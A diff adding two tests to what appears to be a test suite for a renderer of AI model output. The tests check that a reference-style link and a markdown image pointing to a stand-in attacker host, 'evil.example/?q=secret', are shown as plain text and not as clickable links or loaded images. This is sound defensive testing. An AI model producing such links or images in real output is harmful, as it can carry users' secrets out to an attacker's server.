@@ -73,6 +73,16 @@ def test_the_text_of_a_refused_link_and_its_address_can_still_be_read():
     assert page("[여기](https://evil.example/a)").words.strip() == "여기 (https://evil.example/a)"
 
 
+def test_what_a_model_defines_as_a_link_hides_nothing_and_turns_no_citation_into_one():
+    shown = page("[1]: https://evil.example/?q=secret\n\nSee [1].")
+    assert shown.words.split() == ["[1]:", "https://evil.example/?q=secret", "See", "[1]."]
+    assert [attributes["data-n"] for tag, attributes in shown.tags if tag == "button"] == ["1", "1"]
+
+
+def test_a_picture_is_what_it_would_show_and_where_it_would_come_from():
+    assert page("![매출 그래프](https://evil.example/?q=secret)").words.strip() == "매출 그래프 (https://evil.example/?q=secret)"
+
+
 def test_a_source_and_the_askers_own_address_are_links_that_tell_nobody_where_they_were_clicked():
     shown = page("[a](https://wiki.example/leave) <https://mine.example/p?q=1>", words="look at https://mine.example/p?q=1.")
     assert shown.links == ["https://wiki.example/leave", "https://mine.example/p?q=1"]
